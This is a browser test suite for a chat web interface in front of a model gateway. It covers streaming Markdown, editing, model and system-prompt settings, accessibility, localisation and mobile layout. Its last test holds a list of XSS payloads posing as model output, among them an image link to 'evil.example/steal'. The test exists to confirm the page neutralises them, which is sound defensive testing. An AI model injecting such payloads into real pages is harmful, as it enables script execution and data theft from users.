// The chat page in a real browser, in front of the real web service.
import { accessibilityViolations } from '../support/accessibility.ts';
import { describe, expect, setDefaultTimeout, test } from 'bun:test';
import type { BrowserContextOptions } from 'playwright-core';
import { findChromium, refuseMissingChromium } from '../support/browser.ts';
import { chatBench, lastAnswer, say } from '../support/chat-page.ts';

setDefaultTimeout(60_000);
const chromium = findChromium();
if (chromium === null) refuseMissingChromium();

const markdown = [
  '# Weirs\n\nA **low** dam, see [more](https://example.com/).\n\n',
  '```python\ndef flow(head_m):\n    return head_m ** 1.5\n```\n\n',
  '| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n',
];

describe.skipIf(chromium === null)('chat page', () => {
  const bench = chatBench(chromium ?? '');

  const open = async (options: BrowserContextOptions = {}): Promise<void> => {
    await bench.open(undefined, options);
    await bench.page.locator('.model-button', { hasText: 'deepseek' }).waitFor();
  };

  function scripts(): string[] {
    return bench.watched.requested.filter((url) => url.endsWith('.js'));
  }

  async function expectAccessible(): Promise<void> {
    expect(await accessibilityViolations(bench.page)).toEqual([]);
  }

  test('streams Markdown with highlighted code, and tells tokens, cost and speed', async () => {
    bench.gateway.provider.script = () => [{ reasoning: 'Think.' }, { text: markdown[0] ?? '' }, 'hold', { text: markdown.slice(1).join('') }];
    await say(bench.page, 'What is a weir?');
    const answer = bench.page.locator('.turn.assistant').last();
    await answer.locator('h3', { hasText: 'Weirs' }).waitFor();
    expect(await answer.locator('table').count()).toBe(0);
    expect(await bench.page.getByRole('button', { name: 'Stop the answer' }).count()).toBe(1);
    bench.gateway.provider.release();
    await lastAnswer(bench.page);
    await answer.locator('.hljs-keyword', { hasText: 'def' }).waitFor();
    expect(await answer.locator('td').allInnerTexts()).toEqual(['1', '2']);
    expect(await answer.locator('details.reasoning').getAttribute('open')).toBeNull();
    expect(await answer.locator('.meter').innerText()).toMatch(/deepseek[^]*1,234 in · 56 out[^]*\$0\.00042[^]*first token/);
    await bench.page.locator('[role=status]', { hasText: 'The answer is complete.' }).waitFor({ state: 'attached' });
    expect(await bench.page.title()).toBe('What is a weir? · Weir');
    await bench.page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
    await answer.getByRole('button', { name: 'Copy code' }).click();
    expect(await bench.page.evaluate(() => navigator.clipboard.readText())).toBe('def flow(head_m):\n    return head_m ** 1.5');
    await expectAccessible();
  });

  test('stop ends the answer, here and upstream, and keeps what came', async () => {
    bench.gateway.provider.script = () => [{ text: 'The beginning' }, 'hold'];
    await say(bench.page, 'Go on for ever');
    await bench.page.locator('.prose', { hasText: 'The beginning' }).waitFor();
    await bench.page.getByRole('button', { name: 'Stop the answer' }).click();
    await bench.gateway.provider.calls[0]?.left;
    expect(await lastAnswer(bench.page)).toContain('Stopped.');
    await bench.page.reload();
    expect(await lastAnswer(bench.page)).toMatch(/The beginning[^]*Stopped\./);
  });

  test('answers again and edits, and both versions stay reachable', async () => {
    await say(bench.page, 'First');
    await lastAnswer(bench.page);
    bench.gateway.provider.script = () => [{ text: 'Another one' }];
    await bench.page.getByRole('button', { name: 'Answer again' }).click();
    await bench.page.locator('.prose', { hasText: 'Another one' }).waitFor();
    await lastAnswer(bench.page);
    await bench.page.getByRole('button', { name: 'Previous version' }).click();
    expect(await lastAnswer(bench.page)).toContain('You said: First');

    await bench.page.getByRole('button', { name: 'Edit message' }).click();
    await bench.page.getByRole('textbox', { name: 'Edit your message' }).fill('First, edited');
    await bench.page.keyboard.press('Enter');
    await bench.page.locator('.bubble', { hasText: 'First, edited' }).waitFor();
    await lastAnswer(bench.page);
    expect(bench.gateway.provider.calls.at(-1)?.request.messages).toEqual([{ role: 'user', content: 'First, edited' }]);
    await bench.page.getByRole('group', { name: 'Version 2 of 2' }).waitFor();
    await bench.page.getByRole('button', { name: 'Previous version' }).click();
    await bench.page.locator('.bubble', { hasText: /^First$/ }).waitFor();
    await bench.page.reload();
    await bench.page.locator('.bubble', { hasText: /^First$/ }).waitFor();
  });

  test('the model can be changed, and the system prompt goes along', async () => {
    await bench.page.locator('.model-button').click();
    await bench.page.getByRole('combobox', { name: 'Search models' }).fill('loc');
    await bench.page.keyboard.press('Enter');
    await bench.page.locator('.model-button', { hasText: 'local' }).waitFor();
    await bench.page.getByRole('button', { name: 'System prompt' }).click();
    await expectAccessible();
    await bench.page.getByRole('textbox', { name: 'System prompt' }).fill('Be brief.');
    await bench.page.getByRole('button', { name: 'Save' }).click();
    await say(bench.page, 'Hello');
    await lastAnswer(bench.page);
    expect(bench.gateway.provider.calls[0]?.request).toMatchObject({
      model: 'local',
      messages: [{ role: 'system', content: 'Be brief.' }, { role: 'user', content: 'Hello' }],
    });
    await bench.page.reload();
    await bench.page.locator('.model-button', { hasText: 'local' }).waitFor();
    await bench.page.getByRole('button', { name: 'System prompt (set)' }).waitFor();
  });

  test('conversations are kept, found, renamed, deleted and brought back', async () => {
    await say(bench.page, 'About rivers');
    await lastAnswer(bench.page);
    await bench.page.getByRole('button', { name: 'New chat' }).click();
    await say(bench.page, '关于水坝');
    await lastAnswer(bench.page);
    await bench.page.reload();
    await bench.page.locator('.conversation-row').nth(1).waitFor();
    expect(await bench.page.locator('.conversation-row a').allInnerTexts()).toEqual(['关于水坝', 'About rivers']);
    expect(await lastAnswer(bench.page)).toContain('You said: 关于水坝');

    await bench.page.keyboard.press('Control+Shift+F');
    await bench.page.keyboard.type('RIVERS');
    await bench.page.locator('.conversation-row').nth(1).waitFor({ state: 'detached' });
    await bench.page.getByRole('link', { name: 'About rivers' }).click();
    await bench.page.locator('.bubble', { hasText: 'About rivers' }).waitFor();
    await bench.page.locator('#search').fill('');
    await bench.page.getByRole('link', { name: '关于水坝' }).waitFor();

    await bench.page.getByRole('button', { name: 'Rename “About rivers”' }).focus();
    await bench.page.keyboard.press('Enter');
    await bench.page.getByRole('textbox', { name: 'New title' }).fill('Streams');
    await bench.page.keyboard.press('Enter');
    await bench.page.getByRole('link', { name: 'Streams' }).waitFor();
    await bench.page.getByRole('button', { name: 'Delete “Streams”' }).focus();
    await bench.page.keyboard.press('Enter');
    await bench.page.getByRole('link', { name: 'Streams' }).waitFor({ state: 'detached' });
    await bench.page.getByRole('button', { name: 'Undo' }).click();
    await bench.page.getByRole('link', { name: 'Streams' }).waitFor();
    await bench.page.locator('.bubble', { hasText: 'About rivers' }).waitFor();
  });

  test('failures are said in words, and trying again replaces them', async () => {
    bench.gateway.provider.script = () => ({ status: 429, message: 'Limit of the test reached', headers: { 'retry-after': '12' } });
    await say(bench.page, 'Hello');
    expect(await lastAnswer(bench.page)).toMatch(/Too many requests\. Try again in 12 s\.[^]*Limit of the test reached/);
    await expectAccessible();
    bench.gateway.provider.script = () => [{ text: 'Half of' }, 'cut'];
    await bench.page.getByRole('button', { name: 'Try again' }).click();
    await bench.page.locator('.failure', { hasText: /The (provider failed|answer broke off)/ }).waitFor();
    bench.gateway.provider.script = () => [{ text: 'Whole' }, { toolCall: { name: 'look_up', arguments: '{"river":"Rhine"}' } }];
    await bench.page.getByRole('button', { name: 'Try again' }).click();
    await bench.page.getByText('Asks for the tool look_up').click();
    await bench.page.getByText('"river": "Rhine"').waitFor();
    await bench.page.getByRole('group', { name: 'Version 2 of 2' }).waitFor();
  });

  test('when the gateway is down the page says so, and goes on by itself', async () => {
    bench.gateway.provider.script = () => [{ text: 'Half of' }, 'hold'];
    await say(bench.page, 'Hello');
    await bench.page.locator('.prose', { hasText: 'Half of' }).waitFor();
    await bench.gateway.stop();
    await bench.page.locator('.failure', { hasText: /broke off|not reachable/ }).waitFor();
    await bench.page.locator('.health-banner', { hasText: 'The gateway is not reachable' }).waitFor();
    await bench.page.locator('#message').fill('typed meanwhile');
    await expectAccessible();
    await bench.gateway.start();
    await bench.page.locator('.health-banner').waitFor({ state: 'detached' });
    await bench.page.getByText('Connected again.').waitFor();
    expect(await bench.page.locator('#message').inputValue()).toBe('typed meanwhile');
    bench.gateway.provider.script = () => [{ text: 'Here again.' }];
    await bench.page.getByRole('button', { name: 'Try again' }).click();
    await bench.page.locator('.prose', { hasText: 'Here again.' }).waitFor();
  });

  test('everything can be done by keyboard', async () => {
    await bench.page.keyboard.type('One line');
    await bench.page.keyboard.press('Shift+Enter');
    await bench.page.keyboard.type('two lines');
    bench.gateway.provider.script = () => [{ text: 'Long' }, 'hold'];
    await bench.page.keyboard.press('Enter');
    await bench.page.locator('.prose', { hasText: 'Long' }).waitFor();
    expect(await bench.page.locator('.bubble').innerText()).toBe('One line\ntwo lines');
    await bench.page.keyboard.press('Escape');
    await bench.gateway.provider.calls[0]?.left;
    await bench.page.getByText('Stopped.').first().waitFor();
    bench.gateway.provider.script = () => [{ text: 'Short' }];
    await bench.page.keyboard.press('ArrowUp');
    await bench.page.getByRole('textbox', { name: 'Edit your message' }).waitFor();
    await bench.page.keyboard.press('Escape');
    expect(await bench.page.evaluate(() => document.activeElement?.id)).toBe('message');
    await bench.page.keyboard.press('Control+/');
    await bench.page.getByRole('dialog', { name: 'Keyboard shortcuts' }).waitFor();
    await expectAccessible();
    await bench.page.keyboard.press('Escape');
    await bench.page.getByRole('dialog').waitFor({ state: 'detached' });
    await bench.page.keyboard.press('Control+Shift+O');
    await bench.page.getByText('What would you like to know?').waitFor();
    expect(await bench.page.evaluate(() => document.querySelector('a, button, input')?.className)).toBe('skip-link');
    await bench.page.locator('.skip-link').focus();
    const reached: string[] = [];
    for (let presses = 0; presses < 30; presses += 1) {
      reached.push(await bench.page.evaluate(() => document.activeElement?.getAttribute('aria-label') ?? document.activeElement?.textContent ?? ''));
      await bench.page.keyboard.press('Tab');
    }
    for (const name of ['Skip to the message box', 'New chat', 'Dark', '中文', 'System prompt', 'Message']) {
      expect(reached).toContainEqual(expect.stringContaining(name));
    }
  });

  for (const { theme, locale, placeholder } of [
    { theme: 'light', locale: 'zh-CN', placeholder: '输入消息' },
    { theme: 'dark', locale: 'zh-CN', placeholder: '输入消息' },
    { theme: 'dark', locale: 'en-US', placeholder: 'Write a message' },
  ] as const) {
    test(`${locale} in ${theme} is whole and accessible`, async () => {
      await open({ locale, colorScheme: theme });
      bench.gateway.provider.script = () => markdown.map((text) => ({ text }));
      expect(await bench.page.locator('#message').getAttribute('placeholder')).toBe(placeholder);
      expect(await bench.page.evaluate(() => document.documentElement.lang)).toBe(locale === 'zh-CN' ? 'zh-CN' : 'en');
      await expectAccessible();
      await say(bench.page, 'Hi');
      await lastAnswer(bench.page);
      await bench.page.locator('.hljs-keyword').first().waitFor();
      await expectAccessible();
      await bench.page.locator('.model-button').click();
      await expectAccessible();
      const paper = await bench.page.evaluate(() => getComputedStyle(document.body).backgroundColor);
      expect(paper).toBe(theme === 'dark' ? 'rgb(22, 25, 26)' : 'rgb(251, 250, 248)');
    });
  }

  test('the first load is small, and heavy parts come when they are needed', async () => {
    expect(scripts().filter((url) => /Markdown|highlight/.test(url))).toEqual([]);
    const sizes = await Promise.all(scripts().map(async (url) => Bun.gzipSync(await (await fetch(url)).bytes()).length));
    expect(sizes.reduce((sum, sizeBytes) => sum + sizeBytes, 0)).toBeLessThan(150 * 1024);
    await say(bench.page, 'Hello');
    await lastAnswer(bench.page);
    expect(scripts().some((url) => url.includes('highlight'))).toBe(false);
  });

  test('theme and language are chosen on the page and kept', async () => {
    await bench.page.getByRole('button', { name: 'Dark', exact: true }).click();
    await bench.page.getByRole('button', { name: '中文' }).click();
    await bench.page.getByText('想了解些什么？').waitFor();
    await bench.page.reload();
    await bench.page.getByText('想了解些什么？').waitFor();
    expect(await bench.page.evaluate(() => document.documentElement.dataset.theme)).toBe('dark');
  });

  test('fits a phone', async () => {
    await open({ viewport: { width: 360, height: 700 }, isMobile: true, hasTouch: true });
    bench.gateway.provider.script = () => [...markdown.map((text) => ({ text })), { text: `\n${'x'.repeat(300)}\n` }];
    await say(bench.page, 'y'.repeat(200));
    await lastAnswer(bench.page);
    expect(await bench.page.evaluate(() => document.documentElement.scrollWidth)).toBe(360);
    expect(await bench.page.locator('.sidebar').isVisible()).toBe(false);
    await bench.page.getByRole('button', { name: 'Open conversations' }).tap();
    await bench.page.getByRole('button', { name: 'Close conversations' }).waitFor();
    await expectAccessible();
    await bench.page.locator('.sidebar').getByRole('button', { name: 'New chat' }).tap();
    await bench.page.getByText('What would you like to know?').waitFor();
    await bench.page.locator('.sidebar').waitFor({ state: 'hidden' });
  });

  test('what a model writes is never run, and loads nothing by itself', async () => {
    const attacks = [
      '<script>document.title="owned"</script><img src=x onerror="document.title=\'owned\'">',
      '<svg onload="document.title=\'owned\'"><iframe src="javascript:top.document.title=\'owned\'"></iframe>',
      '[a](javascript:document.title="owned") [b](java&#115;cript:alert(1)) [c](data:text/html,<script>alert(1)</script>) <javascript:alert(1)>',
      '![secret](https://evil.example/steal?data=1) ![x](http://evil.example/x.png) ![y](javascript:alert(1))',
      '```html"><img src=x onerror=alert(1)>\n<script>document.title="owned"</script>\n```',
      '| <img src=x onerror=alert(1)> |\n|---|\n| <b onmouseover=alert(1)>x</b> |',
      '<style>body{display:none}</style><form action=https://evil.example><button>Send</button></form><base href=https://evil.example>',
    ].join('\n\n');
    bench.gateway.provider.script = () => [{ reasoning: attacks }, { text: attacks }, { toolCall: { name: '<img src=x onerror=alert(1)>', arguments: attacks } }];
    await say(bench.page, '<img src=x onerror=alert(1)>');
    await lastAnswer(bench.page);
    await bench.page.locator('.code-block').waitFor();
    for (const selector of ['script:not([src])', 'iframe', 'img:not([src="/ui/favicon.svg"])', 'svg[onload]', '[onerror]', '[onmouseover]', 'style', 'main form:not(.composer)', 'base']) {
      expect(`${selector}: ${await bench.page.locator(`body ${selector}`).count()}`).toBe(`${selector}: 0`);
    }
    const links = await bench.page.locator('.prose a').evaluateAll((found) => found.map((link) => link.getAttribute('href')));
    expect(links).toEqual([]);
    expect(await bench.page.title()).not.toContain('owned');
    expect(bench.watched.requested.filter((url) => !url.startsWith(bench.web.service.url))).toEqual([]);
    await bench.page.getByRole('button', { name: 'Load the image “secret” from evil.example' }).waitFor();
  });
});
